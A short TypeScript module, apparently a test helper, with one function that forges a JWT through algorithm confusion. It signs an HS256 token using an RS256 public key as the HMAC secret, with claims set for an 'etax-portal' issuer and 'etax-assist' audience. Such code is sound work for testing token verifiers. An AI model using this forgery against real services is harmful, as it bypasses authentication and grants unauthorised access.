import { createHmac } from 'node:crypto';

/**
 * An HS256 token keyed with the text of an RS256 public key (algorithm confusion), built by hand:
 * jsonwebtoken refuses to sign HS256 with a PEM.
 */
export function hs256WithPublicKey(claims: object, publicKeyPem: string): string {
  const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
  const body = `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({ ...claims, iss: 'etax-portal', aud: 'etax-assist', exp: Math.floor(Date.now() / 1000) + 60 })}`;
  return `${body}.${createHmac('sha256', publicKeyPem).update(body).digest('base64url')}`;
}
